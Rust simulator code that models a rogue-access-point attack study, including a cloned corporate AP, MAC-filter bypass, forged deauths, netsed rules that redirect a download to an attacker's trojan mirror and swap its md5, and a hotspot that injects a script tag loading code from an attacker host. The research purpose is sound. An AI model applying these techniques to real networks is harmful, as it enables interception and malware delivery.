        }
        self.commit_schedule_poll(node, at);
    }

    /// Move the node's pending poll to `at`: cancel the outstanding
    /// queue entry (if any) and insert the new one, maintaining the
    /// ≤ 1-pending-poll-per-node invariant. Callers have already decided
    /// the move is wanted; no earlier-poll gate here.
    fn commit_schedule_poll(&mut self, node: usize, at: SimTime) {
        if let Some((shard, id)) = self.nodes[node].poll_event.take() {
            self.queue.cancel_on(shard, id);
        }
        self.nodes[node].scheduled_poll = at;
        let handle = self.schedule_event(at, Event::NodePoll { node: node as u32 });
        self.nodes[node].poll_event = Some(handle);
    }

    /// Schedule an immediate poll of a node — required after mutating a
    /// host from outside the event loop (e.g. `host_mut(n).ping(…)`) on a
    /// node that has no periodic wake source of its own. An outstanding
    /// later poll is cancelled rather than left as a redundant queue
    /// entry (it would dispatch as a pure no-op poll).
    pub fn kick(&mut self, n: NodeId) {
        let now = self.queue.now();
        if self.nodes[n.0].scheduled_poll <= now {
            return; // a poll at this very instant is already pending
        }
        self.commit_schedule_poll(n.0, now);
    }

    /// Count of MAC events matching a predicate.
    pub fn count_mac_events(&self, f: impl Fn(&MacEvent) -> bool) -> usize {
        self.mac_events.iter().filter(|(_, _, e)| f(e)).count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_attack::DeauthFlooder;
    use rogue_dot11::frame::FrameBody;
    use rogue_dot11::StaConfig;

    fn corp_ap_cfg() -> ApConfig {
        ApConfig::typical(MacAddr::local(1), "NET", 1, None)
    }

    #[test]
    fn monitor_hears_beacons_on_its_channel_only() {
        let mut w = World::new(Seed(1), MediumParams::default());
        let ap = w.add_node("ap");
        w.add_ap_bridge(ap, Pos::new(0.0, 0.0), 15.0, corp_ap_cfg(), None);
        let snif = w.add_node("sniffer");
        let on_channel = w.add_monitor(snif, Pos::new(5.0, 0.0), 1);
        let off_channel = w.add_monitor(snif, Pos::new(5.0, 0.0), 6);
        w.run_until(SimTime::from_millis(550));
        assert!(w.sniffer(snif, on_channel).beacons().len() >= 4);
        assert!(w.sniffer(snif, off_channel).beacons().is_empty());
    }

    #[test]
    fn injector_frames_reach_receivers() {
        let mut w = World::new(Seed(2), MediumParams::default());
        let atk = w.add_node("attacker");
        let flooder = DeauthFlooder::new(
            MacAddr::local(1),
            None,
            SimTime::from_millis(10),
            SimDuration::from_millis(100),
            SimTime::from_millis(500),
        );
        w.add_injector(atk, Pos::new(0.0, 0.0), 15.0, 1, flooder);
        let snif = w.add_node("sniffer");
        let mon = w.add_monitor(snif, Pos::new(5.0, 0.0), 1);
        w.run_until(SimTime::from_secs(1));
        let deauths = w
            .sniffer(snif, mon)
            .captures
            .iter()
            .filter(|c| matches!(c.frame.body, FrameBody::Deauth { .. }))
            .count();
        assert_eq!(deauths, 5, "10,110,210,310,410ms");
    }

    #[test]
    fn station_joins_ap_through_world() {
        let mut w = World::new(Seed(3), MediumParams::default());
        let ap = w.add_node("ap");
        let ap_radio = w.add_ap_bridge(ap, Pos::new(0.0, 0.0), 15.0, corp_ap_cfg(), None);
        let sta_node = w.add_node("sta");
        let cfg = StaConfig::typical(MacAddr::local(9), "NET", None);
        let (sta_radio, _if) = w.add_sta(
            sta_node,
            Pos::new(10.0, 0.0),
            15.0,
            cfg,
            Ipv4Addr::new(10, 0, 0, 9),
            24,
        );
        w.run_until(SimTime::from_secs(2));
        assert_eq!(w.sta_state(sta_node, sta_radio), StaState::Associated);
        assert!(w.ap(ap, ap_radio).is_associated(MacAddr::local(9)));
        assert!(w.count_mac_events(|e| matches!(e, MacEvent::Associated { .. })) >= 1);
    }

    #[test]
    fn kick_cancels_pending_poll_instead_of_duplicating_it() {
        // Twin worlds: B gets one kick mid-run while a later poll is
        // already pending. The kick must *move* that entry (cancel +
        // reschedule), so B dispatches exactly one extra event — the
        // kicked poll — and the MAC trace stays identical. The old
        // behaviour left the stale entry in the queue as a redundant
        // no-op poll, observable as extra dispatches.
        let build = |kick: bool| {
            let mut w = World::new(Seed(11), MediumParams::default());
            let ap = w.add_node("ap");
            w.add_ap_bridge(ap, Pos::new(0.0, 0.0), 15.0, corp_ap_cfg(), None);
            let sta = w.add_node("sta");
            w.add_sta(
                sta,
                Pos::new(10.0, 0.0),
                15.0,
                StaConfig::typical(MacAddr::local(9), "NET", None),
                Ipv4Addr::new(10, 0, 0, 9),
                24,
            );
            w.run_until(SimTime::from_millis(5));
            if kick {
                w.kick(sta);
            }
            w.run_until(SimTime::from_secs(1));
            let trace: Vec<String> = w
                .mac_events
                .iter()
                .map(|(t, n, e)| format!("{} {} {:?}", t.as_nanos(), n.0, e))
                .collect();
            (w.events_dispatched(), trace)
        };
        let (base_events, base_trace) = build(false);
        let (kicked_events, kicked_trace) = build(true);
        assert_eq!(
            kicked_events,
            base_events + 1,
            "a kick adds exactly the kicked poll, never a duplicate entry"
        );
        assert_eq!(kicked_trace, base_trace, "extra poll must be a no-op");
    }

    #[test]
    fn repeated_kicks_at_one_instant_collapse_to_one_poll() {
        let mut w = World::new(Seed(12), MediumParams::default());
        let n = w.add_node("idle");
        let base = w.events_dispatched();
        w.kick(n);
        w.kick(n);
        w.kick(n);
        w.run_until(SimTime::from_millis(1));
        assert_eq!(w.events_dispatched() - base, 1, "one poll, not three");
    }

    #[test]
    fn wired_monitor_tap_sees_switch_traffic() {
        let mut w = World::new(Seed(4), MediumParams::default());
        let sw = w.add_switch(SimDuration::from_micros(10));
        let a = w.add_node("a");
        w.add_wired_iface(a, sw, MacAddr::local(1), Ipv4Addr::new(10, 0, 0, 1), 24);
        let b = w.add_node("b");
        w.add_wired_iface(b, sw, MacAddr::local(2), Ipv4Addr::new(10, 0, 0, 2), 24);
        let m = w.add_node("monitor");
        w.add_wired_monitor(
            m,
            sw,
            rogue_detect::wired::WiredMonitor::new([MacAddr::local(1)]),
        );
        // a pings b: ARP + echo both cross the switch.
        w.host_mut(a)
            .ping(SimTime::ZERO, Ipv4Addr::new(10, 0, 0, 2), 1);
        w.kick(a);
        w.run_until(SimTime::from_millis(100));
        let mon = w.wired_monitor(m).expect("attached");
        assert!(mon.inspected >= 2, "tap must see the exchange");
        // b's MAC is unregistered: exactly one stranger alarm.
        assert_eq!(mon.alarms.len(), 1);
        assert_eq!(mon.alarms[0].subject, MacAddr::local(2));
    }

    #[test]
    fn switch_learning_limits_flooding() {
        let mut w = World::new(Seed(5), MediumParams::default());
        let sw = w.add_switch(SimDuration::from_micros(10));
        let a = w.add_node("a");
        w.add_wired_iface(a, sw, MacAddr::local(1), Ipv4Addr::new(10, 0, 0, 1), 24);
        let b = w.add_node("b");
        w.add_wired_iface(b, sw, MacAddr::local(2), Ipv4Addr::new(10, 0, 0, 2), 24);
        let c = w.add_node("c");
        w.add_wired_iface(c, sw, MacAddr::local(3), Ipv4Addr::new(10, 0, 0, 3), 24);
        // Warm up: a <-> b unicast exchange teaches the switch.
        w.host_mut(a)
            .ping(SimTime::ZERO, Ipv4Addr::new(10, 0, 0, 2), 1);
        w.kick(a);
        w.run_until(SimTime::from_millis(50));
        let before = w.host(c).delivered;
        // More unicast a -> b: c must see none of it.
        let now = w.now();
        w.host_mut(a).ping(now, Ipv4Addr::new(10, 0, 0, 2), 2);
        w.kick(a);
        w.run_until(now + SimDuration::from_millis(50));
        assert_eq!(w.host(c).delivered, before, "learned unicast not flooded");
        // And the pings themselves worked.
        assert!(w
            .host_mut(a)
            .take_events()
            .iter()
            .any(|e| matches!(e, rogue_netstack::HostEvent::PingReply { seq: 2, .. })));
    }

    #[test]
    fn metrics_count_protocol_milestones() {
        let mut w = World::new(Seed(8), MediumParams::default());
        let ap = w.add_node("ap");
        w.add_ap_bridge(ap, Pos::new(0.0, 0.0), 15.0, corp_ap_cfg(), None);
        let sta = w.add_node("sta");
        let cfg = StaConfig::typical(MacAddr::local(9), "NET", None);
        w.add_sta(
            sta,
            Pos::new(5.0, 0.0),
            15.0,
            cfg,
            Ipv4Addr::new(10, 0, 0, 9),
            24,
        );
        w.run_until(SimTime::from_secs(2));
        assert!(w.metrics.counter("mac.associated") >= 1);
        assert!(w.metrics.counter("mac.ap_client_joined") >= 1);
        assert_eq!(w.metrics.counter("mac.deauth_forced"), 0);
    }

    #[test]
    fn app_downcast_accessors() {
        use rogue_services::traffic::PingApp;
        let mut w = World::new(Seed(6), MediumParams::default());
        let n = w.add_node("n");
        let idx = w.add_app(
            n,
            Box::new(PingApp::new(
                Ipv4Addr::new(10, 0, 0, 1),
                SimTime::FOREVER,
                SimDuration::from_secs(1),
            )),
        );
        assert_eq!(w.app::<PingApp>(n, idx).sent, 0);
        w.app_mut::<PingApp>(n, idx).sent = 5;
        assert_eq!(w.app::<PingApp>(n, idx).sent, 5);
    }

    #[test]
    #[should_panic(expected = "app type mismatch")]
    fn app_downcast_type_checked() {
        use rogue_services::traffic::{PingApp, UdpSink};
        let mut w = World::new(Seed(7), MediumParams::default());
        let n = w.add_node("n");
        let idx = w.add_app(
            n,
            Box::new(PingApp::new(
                Ipv4Addr::new(10, 0, 0, 1),
                SimTime::FOREVER,
                SimDuration::from_secs(1),
            )),
        );
        let _ = w.app::<UdpSink>(n, idx);
    }
}
