//! Prefabricated topologies.
//!
//! [`CorpScenario`] is the paper's testbed (Figures 1–3): a corporate
//! 802.11b network with a wired LAN, an upstream router, "Internet"
//! servers (the target download portal and the attacker's trojan
//! mirror), one victim laptop, and optionally the two-NIC MITM gateway
//! and/or a VPN endpoint.
//!
//! ```text
//!                (ch 1)                    corp LAN            internet
//!  victim ))))  valid AP ══╦═════════╦═══ router ═════╦══════════╦
//!    )                     ║         ║                ║          ║
//!    ) (ch 6)          vpn endpt   monitor        target web   evil web
//!  rogue AP ─┐         (192.168.    (tap)         (10.9.9.9)  (10.6.6.6)
//!            │           0.200)
//!     MITM gateway ))))  valid AP      ← second NIC, associated as a client
//! ```

use bytes::Bytes;
use rogue_attack::{clone_ap, MitmGatewayConfig};
use rogue_crypto::wep::WepKey;
use rogue_detect::wired::WiredMonitor;
use rogue_dot11::{ApConfig, MacAddr, StaConfig};
use rogue_netstack::netfilter::SnatRule;
use rogue_netstack::{IfIndex, Ipv4Addr};
use rogue_phy::{MediumParams, Pos};
use rogue_services::apps::HttpServerApp;
use rogue_services::netsed::NetsedRule;
use rogue_services::site::{download_portal_padded, make_binary, trojan_site, DownloadPortal};
use rogue_sim::{Seed, SimDuration, SimRng, SimTime};
use rogue_vpn::client::VpnClientConfig;
use rogue_vpn::server::{ClientAccount, VpnServerConfig};
use rogue_vpn::{Transport, VpnClient, VpnServer, PSK_LEN};

use crate::world::{NodeId, SwitchId, World};

/// Well-known addresses of the corporate scenario.
pub mod addrs {
    use super::Ipv4Addr;

    /// Corporate router / default gateway.
    pub const CORP_GW: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 254);
    /// Victim laptop.
    pub const VICTIM: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 50);
    /// MITM gateway, rogue-AP side ("wlan0" in Appendix A).
    pub const GATEWAY_WLAN: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 1);
    /// MITM gateway, uplink side ("eth1").
    pub const GATEWAY_UPLINK: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 2);
    /// VPN endpoint on the trusted wired LAN.
    pub const VPN_ENDPOINT: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 200);
    /// Router's internet-facing address.
    pub const ROUTER_WAN: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 254);
    /// The target download portal ("Target-IP" in §4.1).
    pub const TARGET: Ipv4Addr = Ipv4Addr::new(10, 9, 9, 9);
    /// The attacker's trojan mirror.
    pub const EVIL: Ipv4Addr = Ipv4Addr::new(10, 6, 6, 6);
    /// Victim's tunnel-internal address.
    pub const VICTIM_TUN: Ipv4Addr = Ipv4Addr::new(10, 8, 0, 2);
    /// Endpoint's tunnel-internal address.
    pub const ENDPOINT_TUN: Ipv4Addr = Ipv4Addr::new(10, 8, 0, 1);
}

/// The cloned AP MAC from Figure 1 (`AA:BB:CC:DD` padded to 6 bytes).
pub fn corp_bssid() -> MacAddr {
    MacAddr([0xAA, 0xBB, 0xCC, 0xDD, 0x00, 0x01])
}

/// MAC of the victim laptop.
pub fn victim_mac() -> MacAddr {
    MacAddr::local(50)
}

/// MAC of an absent-but-authorized employee (sniffed by the attacker for
/// the ACL bypass).
pub fn employee_mac() -> MacAddr {
    MacAddr::local(51)
}

/// Scenario options.
#[derive(Clone, Debug)]
pub struct CorpScenarioCfg {
    /// WEP key on the corporate network (None = open).
    pub wep: Option<WepKey>,
    /// MAC allow-list on the legitimate AP.
    pub mac_filter: bool,
    /// Deploy the MITM gateway (rogue AP + bridge + netsed)?
    pub rogue: Option<RogueCfg>,
    /// Deploy the VPN endpoint, and provision the victim to use it?
    pub victim_vpn: Option<Transport>,
    /// Victim position (valid AP at the origin).
    pub victim_pos: Pos,
    /// Download size served by the portal.
    pub file_len: usize,
    /// Victim's TCP MSS (swept by E2's boundary experiment).
    pub victim_mss: usize,
    /// Target web server's TCP MSS (controls the segment boundaries the
    /// netsed proxy sees).
    pub server_mss: usize,
    /// Filler bytes ahead of the portal page content (randomized by the
    /// E2 boundary experiment to shift segment boundaries).
    pub page_pad: usize,
    /// Log-normal shadowing sigma on the radio medium, dB.
    pub shadowing_sigma_db: f64,
    /// Wired-side monitor tap on the corp LAN.
    pub wired_monitor: bool,
}

/// Rogue gateway options.
#[derive(Clone, Debug)]
pub struct RogueCfg {
    /// Gateway position.
    pub pos: Pos,
    /// Rogue AP transmit power (valid AP transmits at 15 dBm).
    pub tx_power_dbm: f64,
    /// Rogue AP channel (Figure 1 uses 6).
    pub channel: u8,
    /// Send targeted forged deauths at the victim.
    pub deauth_victim: bool,
    /// When the rogue comes on air (ZERO = from the start; later values
    /// model the attacker arriving after the victim has associated).
    pub start_at: SimTime,
}

impl Default for RogueCfg {
    fn default() -> Self {
        RogueCfg {
            pos: Pos::new(40.0, 0.0),
            tx_power_dbm: 18.0,
            channel: 6,
            deauth_victim: false,
            start_at: SimTime::ZERO,
        }
    }
}

impl CorpScenarioCfg {
    /// The Section 4 proof-of-concept configuration: WEP network, rogue
    /// gateway present, no VPN.
    pub fn paper_attack() -> CorpScenarioCfg {
        CorpScenarioCfg {
            wep: Some(WepKey::from_passphrase_40("SECRET")),
            mac_filter: true,
            rogue: Some(RogueCfg::default()),
            victim_vpn: None,
            victim_pos: Pos::new(35.0, 5.0),
            file_len: 32 * 1024,
            victim_mss: 1400,
            server_mss: 1400,
            page_pad: 0,
            shadowing_sigma_db: 0.0,
            wired_monitor: false,
        }
    }

    /// A healthy network (no attacker).
    pub fn baseline() -> CorpScenarioCfg {
        CorpScenarioCfg {
            rogue: None,
            ..CorpScenarioCfg::paper_attack()
        }
    }
}

/// Handles into a built corporate scenario.
pub struct CorpScenario {
    /// The world to run.
    pub world: World,
    /// Scenario seed (replications fork from it).
    pub seed: Seed,
    /// The victim machine.
    pub victim: NodeId,
    /// Victim's station radio index.
    pub victim_radio: usize,
    /// Victim's wifi interface.
    pub victim_iface: IfIndex,
    /// The legitimate AP node.
    pub valid_ap: NodeId,
    /// Radio index of the legitimate AP.
    pub valid_ap_radio: usize,
    /// Corporate router.
    pub router: NodeId,
    /// Target web server node and its HTTP app index.
    pub target_server: (NodeId, usize),
    /// Evil mirror node and its HTTP app index.
    pub evil_server: (NodeId, usize),
    /// MITM gateway handles, if deployed.
    pub gateway: Option<GatewayHandles>,
    /// VPN endpoint node, if deployed.
    pub vpn_endpoint: Option<NodeId>,
    /// Wired monitor host node, if deployed.
    pub monitor_node: Option<NodeId>,
    /// The corp LAN switch.
    pub corp_switch: SwitchId,
    /// The genuine portal.
    pub portal: DownloadPortal,
    /// The trojan binary the attacker serves.
    pub trojan: Bytes,
    /// The trojan's md5 (what netsed substitutes on the page).
    pub trojan_md5: String,
    /// Pre-shared key provisioned for the victim's VPN.
    pub vpn_psk: [u8; PSK_LEN],
}

/// Handles into the MITM gateway.
pub struct GatewayHandles {
    /// Gateway node.
    pub node: NodeId,
    /// Rogue AP radio index on the gateway.
    pub rogue_ap_radio: usize,
    /// Uplink station radio index.
    pub uplink_radio: usize,
    /// netsed app index.
    pub netsed_app: usize,
    /// parprouted app index.
    pub parprouted_app: usize,
    /// Deauth injector radio index, if enabled.
    pub injector_radio: Option<usize>,
}

/// Build the corporate scenario.
pub fn build_corp(cfg: &CorpScenarioCfg, seed: Seed) -> CorpScenario {
    let mut world = World::new(
        seed,
        MediumParams {
            shadowing_sigma_db: cfg.shadowing_sigma_db,
            ..MediumParams::default()
        },
    );
    let mut rng = SimRng::new(seed.fork(0xC0AB));
    let corp_switch = world.add_switch(SimDuration::from_micros(10));
    let inet_switch = world.add_switch(SimDuration::from_micros(50));

    // --- content ---------------------------------------------------
    let portal = download_portal_padded(make_binary(&mut rng, cfg.file_len), cfg.page_pad);
    let trojan = make_binary(&mut rng, cfg.file_len);
    let (evil_content, trojan_md5) = trojan_site(trojan.clone());

    // --- the legitimate AP (Figure 1 left) --------------------------
    let mut ap_cfg = ApConfig::typical(corp_bssid(), "CORP", 1, cfg.wep.clone());
    if cfg.mac_filter {
        ap_cfg.acl = Some([victim_mac(), employee_mac()].into_iter().collect());
    }
    let valid_ap = world.add_node("valid-ap");
    let valid_ap_radio = world.add_ap_bridge(
        valid_ap,
        Pos::new(0.0, 0.0),
        15.0,
        ap_cfg,
        Some(corp_switch),
    );

    // --- corporate router -------------------------------------------
    let router = world.add_node("corp-router");
    world.add_wired_iface(router, corp_switch, MacAddr::local(254), addrs::CORP_GW, 24);
    world.add_wired_iface(
        router,
        inet_switch,
        MacAddr::local(253),
        addrs::ROUTER_WAN,
        8,
    );
    world.host_mut(router).ip_forward = true;

    // --- internet servers --------------------------------------------
    let target_node = world.add_node("target-www");
    world.add_wired_iface(
        target_node,
        inet_switch,
        MacAddr::local(99),
        addrs::TARGET,
        8,
    );
    world
        .host_mut(target_node)
        .routes
        .add_default(addrs::ROUTER_WAN, 0);
    world.host_mut(target_node).tcp_mss = cfg.server_mss;
    let target_app = world.add_app(
        target_node,
        Box::new(HttpServerApp::new(80, portal.site.clone())),
    );

    let evil_node = world.add_node("evil-www");
    world.add_wired_iface(evil_node, inet_switch, MacAddr::local(66), addrs::EVIL, 8);
    world
        .host_mut(evil_node)
        .routes
        .add_default(addrs::ROUTER_WAN, 0);
    let evil_app = world.add_app(evil_node, Box::new(HttpServerApp::new(80, evil_content)));

    // --- victim -------------------------------------------------------
    let victim = world.add_node("victim");
    let sta_cfg = StaConfig::typical(victim_mac(), "CORP", cfg.wep.clone());
    let (victim_radio, victim_iface) =
        world.add_sta(victim, cfg.victim_pos, 15.0, sta_cfg, addrs::VICTIM, 24);
    world.host_mut(victim).tcp_mss = cfg.victim_mss;

    // --- VPN endpoint + victim provisioning ---------------------------
    let mut vpn_psk = [0u8; PSK_LEN];
    rng.fill_bytes(&mut vpn_psk);
    let mut vpn_endpoint = None;
    if let Some(transport) = cfg.victim_vpn {
        let ep = world.add_node("vpn-endpoint");
        let ep_wired = world.add_wired_iface(
            ep,
            corp_switch,
            MacAddr::local(200),
            addrs::VPN_ENDPOINT,
            24,
        );
        let ep_tun = world.add_tun_iface(ep, MacAddr::local(201), addrs::ENDPOINT_TUN, 24);
        {
            let host = world.host_mut(ep);
            host.ip_forward = true;
            host.routes.add_default(addrs::CORP_GW, ep_wired);
            host.netfilter.add_snat(SnatRule {
                out_ifindex: ep_wired,
                // Only tunnel-internal sources: `-s 10.8.0.0/24`.
                src_net: Some((Ipv4Addr::new(10, 8, 0, 0), 24)),
                to_ip: None,
            });
        }
        let server = VpnServer::new(
            VpnServerConfig {
                port: 4500,
                transport,
                accounts: [(
                    7,
                    ClientAccount {
                        psk: vpn_psk,
                        tun_ip: addrs::VICTIM_TUN,
                    },
                )]
                .into_iter()
                .collect(),
                tun_ifindex: ep_tun,
                tun_peer_mac: MacAddr::local(101),
            },
            rng.fork(0xE9),
        );
        world.attach_vpn_server(ep, ep_tun, server);
        vpn_endpoint = Some(ep);

        // Victim side: tun device + default route into the tunnel.
        let v_tun = world.add_tun_iface(victim, MacAddr::local(101), addrs::VICTIM_TUN, 24);
        world
            .host_mut(victim)
            .routes
            .add_default(addrs::ENDPOINT_TUN, v_tun);
        let client = VpnClient::new(
            VpnClientConfig {
                server: (addrs::VPN_ENDPOINT, 4500),
                psk: vpn_psk,
                client_id: 7,
                transport,
                tun_ifindex: v_tun,
                tun_gateway_ip: addrs::ENDPOINT_TUN,
                tun_gateway_mac: MacAddr::local(201),
                start_at: SimTime::from_millis(100),
            },
            rng.fork(0xEA),
        );
        world.attach_vpn_client(victim, v_tun, client);
    } else {
        // No VPN: ordinary default route via the corp gateway.
        world
            .host_mut(victim)
            .routes
            .add_default(addrs::CORP_GW, victim_iface);
    }

    // --- wired monitor -------------------------------------------------
    let mut monitor_node = None;
    if cfg.wired_monitor {
        let mn = world.add_node("wired-monitor");
        let known = [
            MacAddr::local(254), // router
            MacAddr::local(200), // vpn endpoint
            victim_mac(),
            employee_mac(),
            corp_bssid(),
        ];
        world.add_wired_monitor(mn, corp_switch, WiredMonitor::new(known));
        monitor_node = Some(mn);
    }

    // --- the MITM gateway (Figures 1 & 2) ------------------------------
    let mut gateway = None;
    if let Some(rogue) = &cfg.rogue {
        let gw = world.add_node("mitm-gateway");

        // Uplink NIC: associated to CORP as a valid client. Under MAC
        // filtering the attacker clones the absent employee's address
        // (§2.1: "valid MACs can be sniffed from the network").
        let uplink_mac = if cfg.mac_filter {
            employee_mac()
        } else {
            MacAddr::local(60)
        };
        let mut uplink_cfg = StaConfig::typical(uplink_mac, "CORP", cfg.wep.clone());
        uplink_cfg.channels = vec![1]; // knows the real AP's channel
        let (uplink_radio, uplink_iface) =
            world.add_sta(gw, rogue.pos, 15.0, uplink_cfg, addrs::GATEWAY_UPLINK, 24);

        // Rogue AP NIC: Figure 1 — cloned SSID, BSSID and WEP key,
        // different channel.
        let observed = rogue_dot11::frame::MgmtInfo {
            timestamp: 0,
            beacon_interval_tu: 100,
            capability: 0, // unused by clone_ap
            ssid: "CORP".into(),
            channel: 1,
        };
        let rogue_ap_cfg = clone_ap(&observed, corp_bssid(), rogue.channel, cfg.wep.clone());
        let (rogue_ap_radio, wlan_iface) = world.add_ap_local_starting_at(
            gw,
            rogue.pos,
            rogue.tx_power_dbm,
            rogue_ap_cfg,
            addrs::GATEWAY_WLAN,
            24,
            rogue.start_at,
        );

        // Appendix A + §4.1: forwarding, proxy ARP, routes, DNAT, netsed.
        let mitm = MitmGatewayConfig {
            wlan_if: wlan_iface,
            uplink_if: uplink_iface,
            corp_gateway: addrs::CORP_GW,
            target_ip: addrs::TARGET,
            netsed_port: 10101,
            rules: paper_netsed_rules(&portal.real_md5, &trojan_md5),
        };
        let (netsed, parprouted) = {
            let host = world.host_mut(gw);
            mitm.apply(host)
        };
        let netsed_app = world.add_app(gw, Box::new(netsed));
        let parprouted_app = world.add_app(gw, Box::new(parprouted));

        // Targeted forged deauth, if requested.
        let injector_radio = if rogue.deauth_victim {
            let flooder = rogue_attack::DeauthFlooder::new(
                corp_bssid(),
                Some(victim_mac()),
                rogue.start_at + SimDuration::from_millis(700),
                SimDuration::from_millis(150),
                rogue.start_at + SimDuration::from_secs(60),
            );
            // The injector transmits on the *valid* AP's channel.
            Some(world.add_injector(gw, rogue.pos, 18.0, 1, flooder))
        } else {
            None
        };

        gateway = Some(GatewayHandles {
            node: gw,
            rogue_ap_radio,
            uplink_radio,
            netsed_app,
            parprouted_app,
            injector_radio,
        });
    }

    CorpScenario {
        world,
        seed,
        victim,
        victim_radio,
        victim_iface,
        valid_ap,
        valid_ap_radio,
        router,
        target_server: (target_node, target_app),
        evil_server: (evil_node, evil_app),
        gateway,
        vpn_endpoint,
        monitor_node,
        corp_switch,
        portal,
        trojan,
        trojan_md5,
        vpn_psk,
    }
}

/// The paper's two netsed rules, parameterized by the genuine page.
pub fn paper_netsed_rules(real_md5: &str, fake_md5: &str) -> Vec<NetsedRule> {
    vec![
        NetsedRule::new(
            "href=file.tgz",
            &format!("href=http://{}%2fevil.tgz", addrs::EVIL),
        ),
        NetsedRule::new(real_md5, fake_md5),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_dot11::sta::StaState;

    #[test]
    fn baseline_victim_associates_and_reaches_target() {
        let cfg = CorpScenarioCfg::baseline();
        let mut sc = build_corp(&cfg, Seed(1));
        sc.world.run_until(SimTime::from_secs(3));
        assert_eq!(
            sc.world.sta_state(sc.victim, sc.victim_radio),
            StaState::Associated
        );
        // Victim pings the target across the router.
        let now = sc.world.now();
        sc.world.host_mut(sc.victim).ping(now, addrs::TARGET, 1);
        sc.world.run_until(now + SimDuration::from_secs(2));
        let events = sc.world.host_mut(sc.victim).take_events();
        assert!(
            events.iter().any(|e| matches!(
                e,
                rogue_netstack::HostEvent::PingReply { from, .. } if *from == addrs::TARGET
            )),
            "ping must cross AP bridge + router: {events:?}"
        );
    }

    #[test]
    fn rogue_scenario_victim_lands_on_rogue_and_still_reaches_target() {
        let cfg = CorpScenarioCfg::paper_attack();
        let mut sc = build_corp(&cfg, Seed(2));
        sc.world.run_until(SimTime::from_secs(4));
        assert_eq!(
            sc.world.sta_state(sc.victim, sc.victim_radio),
            StaState::Associated
        );
        // The rogue (18 dBm at 5.6 m) outshines the valid AP (15 dBm at
        // ~35 m): victim must associate on the rogue's channel.
        let gw = sc.gateway.as_ref().expect("rogue deployed");
        let rogue_ap = sc.world.ap(gw.node, gw.rogue_ap_radio);
        assert!(
            rogue_ap.is_associated(victim_mac()),
            "victim must be on the rogue AP"
        );
        // And the gateway's uplink must be associated to the valid AP.
        assert_eq!(
            sc.world.sta_state(gw.node, gw.uplink_radio),
            StaState::Associated
        );
        // Transparent bridging: the victim can still ping the target.
        let now = sc.world.now();
        sc.world.host_mut(sc.victim).ping(now, addrs::TARGET, 9);
        sc.world.run_until(now + SimDuration::from_secs(3));
        let events = sc.world.host_mut(sc.victim).take_events();
        assert!(
            events.iter().any(|e| matches!(
                e,
                rogue_netstack::HostEvent::PingReply { from, .. } if *from == addrs::TARGET
            )),
            "bridge must be transparent: {events:?}"
        );
    }
}

// ---------------------------------------------------------------------
// The Hostile Hotspot (§1.2.2 / §5.1)
// ---------------------------------------------------------------------

/// Addresses of the hotspot scenario.
pub mod hotspot_addrs {
    use super::Ipv4Addr;

    /// The hotspot's wireless-side gateway address.
    pub const HOTSPOT_LAN: Ipv4Addr = Ipv4Addr::new(10, 1, 0, 1);
    /// The hotspot's internet-side address.
    pub const HOTSPOT_WAN: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 99);
    /// The traveller's laptop.
    pub const TRAVELLER: Ipv4Addr = Ipv4Addr::new(10, 1, 0, 50);
    /// The big, legitimate news site ("CNN" in §5.1).
    pub const NEWS: Ipv4Addr = Ipv4Addr::new(10, 5, 5, 5);
    /// The trusted VPN endpoint (the traveller's home corporation).
    pub const HOME_VPN: Ipv4Addr = Ipv4Addr::new(10, 7, 7, 7);
}

/// Hostile-hotspot options.
#[derive(Clone, Debug)]
pub struct HotspotScenarioCfg {
    /// Does the operator tamper with traffic (§1.2.2: "the owner …
    /// has malicious intentions and tampers with the traffic")?
    pub hostile: bool,
    /// Does the traveller tunnel everything home (§5)?
    pub victim_vpn: Option<Transport>,
}

impl HotspotScenarioCfg {
    /// The §5.1 scenario: a hostile hotspot injecting script into pages
    /// from a perfectly trustworthy website.
    pub fn cnn_scenario() -> HotspotScenarioCfg {
        HotspotScenarioCfg {
            hostile: true,
            victim_vpn: None,
        }
    }
}

/// Handles into a built hotspot scenario.
pub struct HotspotScenario {
    /// The world to run.
    pub world: World,
    /// The traveller's machine.
    pub victim: NodeId,
    /// Victim's station radio index.
    pub victim_radio: usize,
    /// The hotspot machine (AP + router + possibly netsed).
    pub hotspot: NodeId,
    /// netsed app index on the hotspot, when hostile.
    pub netsed_app: Option<usize>,
    /// The news server node and HTTP app index.
    pub news_server: (NodeId, usize),
    /// The genuine news page body (tamper reference).
    pub genuine_page: Bytes,
    /// The script tag the hostile operator injects.
    pub injected_script: &'static str,
    /// VPN pre-shared key, when provisioned.
    pub vpn_psk: [u8; PSK_LEN],
}

/// The payload a hostile hotspot splices into every HTML page (§5.1:
/// "anyone could insert malicious code into any web content requested").
pub const HOTSPOT_INJECT: &str = "<script src=http://10.6.6.6/x.js></script>";

/// Build the hostile-hotspot scenario: the AP *is* the attacker, so no
/// bridge, no cloning, no cracking — just a gateway whose owner runs
/// netsed on everything.
pub fn build_hotspot(cfg: &HotspotScenarioCfg, seed: Seed) -> HotspotScenario {
    use rogue_netstack::netfilter::DnatRule;
    use rogue_netstack::proto;
    use rogue_services::netsed::Netsed;
    use rogue_services::site::news_site;

    let mut world = World::new(seed, MediumParams::default());
    let mut rng = SimRng::new(seed.fork(0x407));
    let inet = world.add_switch(SimDuration::from_micros(50));

    // The news site.
    let news_node = world.add_node("news-www");
    world.add_wired_iface(news_node, inet, MacAddr::local(90), hotspot_addrs::NEWS, 8);
    let site = news_site();
    let genuine_page = site.get("/index.html").expect("news page").1.clone();
    let news_app = world.add_app(news_node, Box::new(HttpServerApp::new(80, site)));

    // The hotspot: an open AP on a NAT router.
    let hotspot = world.add_node("hotspot");
    let ap_cfg = ApConfig::typical(MacAddr::local(70), "FreeAirportWiFi", 6, None);
    let (_ap_radio, lan_if) = world.add_ap_local(
        hotspot,
        Pos::new(0.0, 0.0),
        15.0,
        ap_cfg,
        hotspot_addrs::HOTSPOT_LAN,
        24,
    );
    let wan_if = world.add_wired_iface(
        hotspot,
        inet,
        MacAddr::local(71),
        hotspot_addrs::HOTSPOT_WAN,
        8,
    );
    {
        let host = world.host_mut(hotspot);
